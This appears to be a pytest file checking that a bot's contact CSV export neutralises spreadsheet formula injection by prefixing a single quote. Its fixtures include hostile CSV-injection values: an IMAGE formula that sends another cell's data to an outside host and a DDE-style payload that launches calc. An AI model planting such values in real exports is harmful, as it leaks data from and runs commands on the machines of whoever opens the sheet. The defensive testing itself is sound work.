"""`/coach export`'s CSV opens in a spreadsheet: no cell may start like a formula (item 11, OWASP's CSV
injection advice). A contact recorded with a name, place, notes or offer that starts with = + - @ (tab, CR)
gets a leading single quote in the CSV; the JSON keeps every value as it was. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json

import pytest
from sqlalchemy.orm import Session, sessionmaker

from bot.clock import FakeClock
from bot.coach import Coach
from bot.commands import Met, Who
from bot.identity import Actor

ANA = Actor("discord", "1", "2", display_name="Ana", timezone="UTC")
HOSTILE = '=IMAGE("//host/?"&E2)'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what OWASP lists; a spreadsheet runs such a cell


@pytest.fixture
def coach(sessions: sessionmaker[Session], clock: FakeClock) -> Coach:
    return Coach(sessions, clock)


def test_no_cell_of_the_csv_starts_like_a_formula(coach: Coach) -> None:
    recorded = coach.handle(ANA, Met(Who(HOSTILE, "99"), where="+44 20 7946 0000", notes="-1+1 was the joke",
                                     offer="@SUM(1+1)*cmd|' /C calc'!A0", interests=("=1+1", "rust"), tags=("-x",)))
    assert not recorded.error, recorded.text
    assert not coach.handle(ANA, Met(Who("  =HYPERLINK(\"http://x\")"))).error  # spaces first: trimmed anyway
    export = coach.handle_line(ANA, "/coach export")
    rows = list(csv.DictReader(io.StringIO(export.attachments[1].content)))
    cells = [value for row in rows for value in row.values() if value]
    assert not [value for value in cells if value.lstrip(" ").startswith(FORMULA_STARTS)]
    hostile = next(row for row in rows if "IMAGE" in row["name"])
    assert hostile["name"] == "'" + HOSTILE and hostile["where_met"] == "'+44 20 7946 0000"
    assert hostile["notes"] == "'-1+1 was the joke" and hostile["offer"].startswith("'@SUM")
    assert hostile["interests"] == "'=1+1; rust" and hostile["tags"] == "'-x"
    document = json.loads(export.attachments[0].content)  # JSON is data, not a sheet: values as they are
    assert HOSTILE in [contact["name"] for contact in document["contacts"]]
